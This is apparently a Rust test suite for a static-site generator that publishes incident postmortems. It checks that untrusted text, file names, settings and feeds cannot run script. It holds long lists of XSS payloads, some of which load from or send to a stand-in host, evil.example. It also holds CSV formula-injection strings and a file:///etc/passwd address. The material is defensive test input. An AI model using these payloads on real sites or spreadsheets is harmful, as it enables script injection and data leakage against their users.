//! Postmortem text is untrusted: nothing that an author writes can run, style the page or call another host.

use crate::archive::Archive;
use crate::page::Page;

/// Bits of markup that try to act, for places where text is expected.
const IN_TEXT: [&str; 10] = [
    "</title><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>alert(1)</script>",
    "javascript:alert(1)",
];

/// Addresses that a browser would run.
const ADDRESSES: [&str; 19] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "\u{1}javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.com/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
];

/// Raw HTML that tries to act.
const RAW: [&str; 31] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='https://example.com' ping='https://evil.example'>x</a>",
    "<video poster=https://evil.example/x src=https://evil.example/v onerror=alert(1)></video>",
    "<audio src=https://evil.example/a></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
];

#[track_caller]
fn nothing_acts(archive: &Archive) {
    archive.build().good();
    let mut wrong = Vec::new();
    for (path, bytes) in archive.site() {
        let text = String::from_utf8_lossy(&bytes);
        if path.ends_with(".html") {
            wrong.extend(Page::parse(&text).dangers().into_iter().map(|danger| format!("{path}: {danger}")));
        } else if path.ends_with(".xml") && text.to_lowercase().contains("<script") {
            wrong.push(format!("{path}: a script"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''").replace('\n', " "))
}

#[test]
fn no_field_of_the_front_matter_can_act() {
    let mut archive = Archive::new().settings("[build]\npage_size = 10\n");
    for (number, text) in IN_TEXT.iter().enumerate() {
        let value = quoted(text);
        let fields = [
            "title",
            "id",
            "summary",
            "services",
            "tags",
            "factors",
            "trigger",
            "detection",
            "company",
            "team",
            "authors",
            "source",
            "aliases",
            "severity",
            "status",
            "something_else",
        ];
        let lines: Vec<String> = fields.iter().map(|field| format!("{field}: {value}")).collect();
        let action = format!("actions:\n  - title: {value}\n    owner: {value}\n    link: {value}\n    due: {value}\n");
        let front = format!("---\nstarted: 2024-01-{:02}T10:00:00Z\n{}\n{action}---\n", number + 1, lines.join("\n"));
        archive = archive.file(&format!("{number}.md"), format!("{front}{text}\n\n## {text}\n\n- [ ] {text}\n"));
    }
    nothing_acts(&archive);
}

#[test]
fn no_name_of_a_file_can_act() {
    let archive = Archive::new()
        .file("\"><img src=x onerror=alert(1)>.md", "# A\n\n![x](<\"><svg onload=y>.png>)\n")
        .file("\"><svg onload=y>.png", "x")
        .file("{{ 7 }}/javascript:alert(1)/index.md", "# B\n");
    nothing_acts(&archive);
}

#[test]
fn no_settings_can_act() {
    let mut settings = String::new();
    for key in ["title", "description", "language", "footer"] {
        settings.push_str(&format!("{key} = '''{}'''\n", IN_TEXT[1]));
    }
    settings.push_str("edit_url = \"javascript:alert(1)//{path}\"\n");
    let link = "[[links]]\nlabel = \"x\"\nurl = \"javascript:alert(1)\"\n";
    Archive::new().settings(&format!("{settings}{link}")).build().refused().says("javascript:alert(1)");
    let archive = Archive::new().settings(&settings).file("a.md", "# A\n");
    // Whoever writes the settings owns the site: what counts is that a slip does not end in markup.
    archive.build();
    for (path, bytes) in archive.site().into_iter().filter(|(path, _)| path.ends_with(".html")) {
        let page = Page::parse(&String::from_utf8_lossy(&bytes));
        let scripts: Vec<String> =
            page.dangers().into_iter().filter(|danger| !danger.contains("javascript:")).collect();
        assert!(scripts.is_empty(), "{path}: {scripts:?}");
    }
}

#[test]
fn no_link_of_a_text_can_act() {
    let mut text = String::from("# Links\n\n");
    for address in ADDRESSES {
        text.push_str(&format!("[a]({address}) [b](<{address}>) ![c]({address}) ![d](<{address}>) <{address}>\n\n"));
        text.push_str(&format!(
            "[e][ref] <a href=\"{address}\">f</a> <img src=\"{address}\"> [g](x \"{}\")\n\n",
            IN_TEXT[1]
        ));
        text.push_str(&format!("## Sub\n\n[ref]: {address}\n\n"));
    }
    nothing_acts(&Archive::new().file("a.md", &text).file("pages/b.md", &text));
    // YAML has no control characters at all.
    for address in ADDRESSES.into_iter().filter(|address| !address.contains('\u{1}')) {
        let source = format!(
            "---\ntitle: A\nsource: {}\nactions: [{{title: x, link: {}}}]\n---\nText.\n",
            quoted(address),
            quoted(address)
        );
        nothing_acts(&Archive::new().file("a.md", source));
    }
}

#[test]
fn no_raw_html_can_act() {
    let mut all = String::from("# Raw\n\n");
    let mut archive = Archive::new();
    for (number, raw) in RAW.iter().enumerate() {
        let text = format!(
            "# {raw}\n\nInline {raw} here.\n\n{raw}\n\n<div>\n{raw}\n</div>\n\n| a |\n|---|\n| {raw} |\n\n[^n]\n\n[^n]: {raw}\n"
        );
        all.push_str(&text);
        archive = archive.file(&format!("{number}.md"), text);
    }
    nothing_acts(&archive.file("all.md", &all).file("pages/page.md", &all));
}

#[test]
fn markup_with_a_meaning_to_the_theme_cannot_be_forged() {
    let text = "---\nkind: postmortem\n---\n# A\n\n<p id=\"_main\">x</p>\n\n## _main\n\n<a href=\"#_facts\" id=\"_facts\">y</a>\n\n[^_main]\n\n[^_main]: z\n";
    let archive = Archive::new().file("a.md", text);
    archive.build().good();
    let page = Page::parse(&archive.page("incidents/a.html"));
    assert_eq!(page.repeated_anchors(), Vec::<String>::new());
}

#[test]
fn a_feed_reader_gets_nothing_that_acts() {
    let text = format!(
        "---\ntitle: {}\nstarted: 2024-01-01T10:00:00Z\nservices: [mail]\n---\n{}\n",
        quoted(IN_TEXT[0]),
        RAW.join("\n\n")
    );
    let archive = Archive::new().settings("base_url = \"https://example.com/\"\n").file("a.md", text);
    archive.build().good();
    for feed in ["atom.xml", "service/mail.atom.xml"] {
        let text = archive.page(feed);
        assert!(!text.contains("<script") && !text.contains("&lt;script src"), "{feed}: {text}");
    }
    for feed in ["feed.json", "service/mail.feed.json"] {
        let feed: serde_json::Value = serde_json::from_str(&archive.page(feed)).expect("a feed is JSON");
        let html = feed["items"][0]["content_html"].as_str().unwrap_or_default();
        assert!(!html.contains("<script") && !html.contains("onerror"), "{html}");
    }
}

#[test]
fn a_spreadsheet_runs_no_formula() {
    let archive = Archive::new()
        .file("a.md", "---\ntitle: '=HYPERLINK(\"https://evil.example\")'\ntags: ['+1', '@x']\nteam: '-2'\n---\nx\n");
    archive.build().good();
    let csv = archive.page("archive.csv");
    for cell in csv.lines().skip(1).flat_map(|line| line.split(',')) {
        let cell = cell.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{csv}");
    }
}

#[test]
fn a_spreadsheet_runs_no_formula_in_any_form() {
    let forms = [
        "=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "﹦1",
        "﹢1",
        "⁼1",
        "₌1",
        "﬩1",
        "−1",
        " =1",
        "\u{feff}=1",
        "\u{200b}=1",
        "\u{202e}=1",
    ];
    let mut archive = Archive::new();
    for (number, form) in forms.iter().enumerate() {
        let text = format!("---\ntitle: {form:?}\nservices: [mail, {form:?}]\nteam: {form:?}\nstarted: 2024-01-01T10:00:00Z\n---\nIt broke.\n")
            .replace("\\u{feff}", "\\uFEFF")
            .replace("\\u{200b}", "\\u200B")
            .replace("\\u{202e}", "\\u202E");
        archive = archive.file(&format!("{number}.md"), text);
    }
    archive.build().good();
    let csv = archive.page("archive.csv");
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let mut cells = 0;
    for cell in rows.records().flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>()) {
        for part in cell.split([';', '\t', '\n']) {
            let visible =
                part.trim_start_matches(|c: char| c.is_whitespace() || "\u{feff}\u{200b}\u{202e}".contains(c));
            assert!(!visible.starts_with(|c| "=+-@＝＋－＠﹦﹢⁼₌﬩−".contains(c)), "{cell:?}");
            cells += usize::from(part.trim_start().starts_with('\''));
        }
    }
    assert_eq!(cells, 3 * forms.len());
}

#[test]
fn feeds_are_well_formed_whatever_a_field_contains() {
    let text = "---\ntitle: \"a\\x01\\uFFFF<b>&\\x08\"\nservices: [\"a\\x01b\", \"c\\x1b]]>\"]\ncauses: [network]\nauthors: [\"\\x02\"]\nstarted: 2024-01-01T10:00:00Z\n---\nIt broke.\n";
    let archive = Archive::new().settings("title = \"A\\u0001B\"\ndescription = \"x\\u000By\"\n").file("a.md", text);
    archive.build().good();
    let mut feeds = 0;
    for (path, bytes) in archive.site().iter().filter(|(path, _)| path.ends_with(".xml")) {
        let text = std::str::from_utf8(bytes).expect("UTF-8");
        let wrong =
            |c: &char| (c.is_control() && !"\t\n\r".contains(*c) && *c < ' ') || matches!(c, '\u{fffe}' | '\u{ffff}');
        assert_eq!(text.chars().find(wrong), None, "{path}");
        feeds += 1;
    }
    assert!(feeds >= 3, "{feeds} feeds");
}

#[test]
fn feed_ids_of_two_archives_differ_and_stay_when_an_incident_is_added() {
    let incident = |title: &str, day: &str| format!("---\ntitle: {title}\nstarted: {day}T10:00:00Z\n---\nIt broke.\n");
    let ids = |archive: &Archive| {
        archive.build().good();
        let feed = archive.page("atom.xml");
        let ids = feed.split("<id>").skip(1).map(|rest| rest.split('<').next().unwrap_or_default().to_owned());
        ids.collect::<std::collections::BTreeSet<_>>()
    };
    let one = Archive::new().file("a.md", incident("Mail stopped", "2024-01-01"));
    let other = Archive::new().file("a.md", incident("Printing stopped", "2024-02-01"));
    let (first, second) = (ids(&one), ids(&other));
    assert!(first.is_disjoint(&second), "{first:?} {second:?}");
    assert!(ids(&one.file("b.md", incident("Later", "2024-03-01"))).is_superset(&first));
}

#[test]
fn a_file_that_a_browser_would_run_is_not_published() {
    for (name, bytes) in [
        ("page.html", "<script>alert(1)</script>"),
        ("page.HTM", "<script>alert(1)</script>"),
        ("page.xhtml", "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
        ("plan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("plan.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        (
            "data.xml",
            "<?xml-stylesheet href='x.xsl'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        ),
        ("page.shtm", "<script>alert(1)</script>"),
        ("page.xbl", "<script>alert(1)</script>"),
        ("page.php", "<?php echo 1;"),
        ("noending", "<script>alert(1)</script>"),
        ("page.html.", "words"),
        ("page.html.log", "words"),
        ("log.txt", "\u{feff} <script>alert(1)</script>"),
        ("graph.png", "<svg onload=alert(1)>"),
        ("lib.js", "alert(1)"),
    ] {
        let archive = Archive::new().file("a.md", format!("# A\n\n[open it]({name})\n")).file(name, bytes);
        archive.build().good().says("warning[active-file]").says(&format!("content/{name}")).says("content/a.md:3:1");
        assert!(!archive.has(&format!("files/{name}")), "{name} is published");
    }
}
